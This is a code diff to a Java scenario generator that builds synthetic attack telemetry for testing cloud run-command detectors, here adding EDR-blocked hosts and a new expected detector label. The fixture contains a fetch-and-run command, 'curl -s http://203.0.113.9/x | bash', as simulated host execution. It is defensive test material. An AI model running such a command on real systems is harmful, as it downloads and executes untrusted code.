@@ -403,7 +403,7 @@ final class ScenarioGenerator {
             Set.of(ORPHAN)));
 
     // (b) Fri 10-30 03:00: the inventory CI role (approved for StartAssociationsOnce only) sends a
-    // shell script to the 30 web VMs; host telemetry shows each ran curl | bash.
+    // shell script to the 30 web VMs; host telemetry shows 27 of them ran curl | bash.
     //
     // Not labelled RW-NON-ADMIN-IDENTITY: that detector stays quiet, by design, for the principal
     // of any approved automation (ApprovedAutomation#isPrincipalOf) and leaves "outside its
@@ -432,12 +432,16 @@ final class ScenarioGenerator {
                   + cmdId
                   + "/awsrunShellScript/0.awsrunShellScript/_script.sh");
       HostExecution curl = exec(web, t.plusSeconds(1), "curl -s http://203.0.113.9/x | bash");
+      // On web-28..30 the EDR killed the worker: the hosts report telemetry, but no execution.
+      boolean blocked = i > 27;
       targets.add(
           new TargetCorrelation(
               web,
               String.format("web-%02d", i),
-              CorrelationStatus.CONFIRMED,
-              List.of(new Evidence(web, script, "aws-run-command", cmdId, List.of(curl))),
+              blocked ? CorrelationStatus.NOT_OBSERVED : CorrelationStatus.CONFIRMED,
+              blocked
+                  ? List.of()
+                  : List.of(new Evidence(web, script, "aws-run-command", cmdId, List.of(curl))),
               "Success",
               true));
     }
@@ -448,7 +452,8 @@ final class ScenarioGenerator {
         fanOut,
         "RW-FAN-OUT",
         "RW-OUTSIDE-WINDOW",
-        "RW-SUSPICIOUS-CONTENT");
+        "RW-SUSPICIOUS-CONTENT",
+        "RW-NOT-MATERIALIZED");
   }
 
   private void attack(String id, String story, AdminCommand c, String... expected) {
